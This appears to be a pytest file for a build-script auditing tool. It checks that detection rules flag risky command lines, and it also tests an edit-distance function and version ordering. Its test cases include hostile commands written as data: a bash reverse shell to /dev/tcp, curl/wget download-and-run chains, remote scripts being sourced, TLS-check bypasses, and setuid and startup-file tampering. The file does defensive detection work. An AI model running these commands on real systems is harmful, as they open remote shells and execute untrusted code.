"""What the words of a command say, in spellings that differ and in look-alikes that must stay quiet."""

import random

import pytest

from auditloom.functions.commands import marks_of
from auditloom.functions.names import osa

CASES = [
    ("R041", "bash -i >& /dev/tcp/10.0.0.1/443 0>&1", True), ("R041", "exec 3<>/dev/udp/$h/53", True), ("R041", "cat < /dev/$p/h/1", True), ("R041", "cat /dev/t?p/h/1", True), ("R041", "ls /dev/tcp", False), ("R041", "echo x > /dev/null", False),
    ("R042", "curl -sLo run.sh https://h/x && chmod +x run.sh && ./run.sh", True), ("R042", 'wget -O "/tmp/a b" https://h/x; sh "/tmp/a b"', True), ("R042", "curl https://h/x > y; bash < y", True), ("R042", "curl -o data.bin https://h/x && ./configure", False), ("R042", "curl -o a https://h/x; . ./a", False),
    ("R056", "curl -o a https://h/x; . ./a", True), ("R056", "wget https://h/env.sh && source env.sh", True), ("R056", "curl -o a https://h/x; source b", False),
    ("R043", 'base64 -d <<< "$x"', True), ("R043", "base64 --decode <<EOF", True), ("R043", 'echo "$blob" | base64 -di', True), ("R043", "base64 -d file.b64", False), ("R043", "base64 $x", False),
    ("R044", "python3 -c 'import socket'", True), ("R044", "perl -we 'use LWP::Simple'", True), ("R044", "ruby -e 'load %q(https://h/x)'", True), ("R044", "python -c 'print(1)'", False), ("R044", "python build.py socket", False),
    ("R047", "source=(https://u:p@h.example:9443/x)", True), ("R047", "source=(http://h.example:8080/x)", False), ("R047", "source=(https://h.example/a:99/x)", False),
    ("R048", "url=http://a.b.TK/x", True), ("R048", "url=http://a.tk.example/x", False), ("R048", "url=https://x.pw:443", True),
    ("R049", 'CFLAGS+=" -fplugin=./x.so"', True), ("R049", "export LDFLAGS='-Wl,--dynamic-linker=/tmp/ld'", True), ("R049", "NOTE='-fplugin=x'", False), ("R049", "gcc -fplugin=x.so a.c", True),
    ("R050", "CXXFLAGS=\"$CXXFLAGS -fno-stack-protector\"", True), ("R050", "LDFLAGS+=' -Wl,-z,execstack'", True), ("R050", "ld -z execstack a.o", True), ("R050", "execstack -q x", False), ("R050", "CFLAGS=-fstack-protector", False),
    ("R052", "install -Dm644 rc ~/.bashrc", True), ("R052", 'cp x "${HOME}/.config/y"', True), ("R052", "echo x >> /home/me/.profile", True), ("R052", "cp .x $pkgdir/root/.x", False), ("R052", "cp x $HOME/plain", False), ("R052", "cp ~/.bashrc backup", False),
    ("R053", 'chmod 4755 "$pkgdir/usr/bin/x"', True), ("R053", "chmod -R u+s $pkgdir/x", True), ("R053", "install -m2755 a $pkgdir/b", True), ("R053", "chmod 755 $pkgdir/x", False), ("R053", "setcap cap_net_raw+ep $pkgdir/x", True), ("R053", "chmod +x $pkgdir/x", False),
    ("R059", "chmod u=rwxs /usr/bin/x", True), ("R059", "setcap 'cap_sys_admin=ep' /usr/bin/x", True), ("R059", "chmod 4755 $pkgdir/x", False), ("R059", "chmod 0755 /usr/bin/x", False),
    ("R057", "curl -sSk https://h/x", True), ("R057", "curl --insecure https://h", True), ("R057", "wget -q --no-check-certificate https://h", True), ("R057", "curl -ok https://h", False), ("R057", "make -k", False), ("R057", "curl https://h/-k", False),
    ("R058", "sudo install -m644 a /etc/x", True), ("R058", "dd if=a of=/boot/x", True), ("R058", "echo a | tee -a /usr/lib/x", True), ("R058", 'install a "$pkgdir/etc/x"', False), ("R058", "cp /etc/x .", False), ("R058", "# cp a /etc/x", False),
]


@pytest.mark.parametrize("rule, line, fires", CASES)
def test_marks(rule, line, fires):
    assert (rule in marks_of(line, line)) is fires


@pytest.mark.parametrize("line", ["", "'", '"', "$(", "a |", "curl", "chmod", "base64 <<<", "-c", "https://", "http://@:", "x" * 100_000, "curl -o", "install -m", "\x00>\x00", "https://" + "a" * 100_000])
def test_odd_lines(line):
    assert isinstance(marks_of(line, line), list) and marks_of(line, None) == [m for m in marks_of(line, None)]


def _plain(a, b):
    """The definition, as a full table."""
    d = [[max(i, j) if not i or not j else 0 for j in range(len(b) + 1)] for i in range(len(a) + 1)]
    for i in range(1, len(a) + 1):
        for j in range(1, len(b) + 1):
            d[i][j] = min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] != b[j - 1]))
            if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
                d[i][j] = min(d[i][j], d[i - 2][j - 2] + 1)
    return d[-1][-1]


def test_edit_distance_against_its_definition():
    rng = random.Random(4)
    for _ in range(3000):
        a, b = ("".join(rng.choice("abc") for _ in range(rng.randint(0, 9))) for _ in range(2))
        assert osa(a, b, 20) == _plain(a, b) and osa(a, b, 2) == min(3, _plain(a, b))
    long = "".join(rng.choice("ab") for _ in range(200))
    assert osa(long, long[1:] + "a", 300) == _plain(long, long[1:] + "a")


def test_version_order_in_expressions(spark):
    from pyspark.sql import functions as F

    from auditloom.functions.names import compare_versions, version_order

    all_ = ["1.9", "1.10", "1.0a", "1.0rc1", "1.0", "1.0-1", "1.0-2", "01.0", "1.0.0", "2:0.1-1", "1:0.9", "", "r12.abc", "r9.abc", "1..0", "1.0_1", "20240101", "1-", "x:1", "1.00000000000000000000000001", None]
    df = spark.createDataFrame([(a, b) for a in all_ for b in all_], "a string, b string")
    for r in df.select("a", "b", version_order("a", F.col("b")).alias("o")).collect():
        assert r.o == (None if r.a is None or r.b is None else compare_versions(r.a, r.b)), r
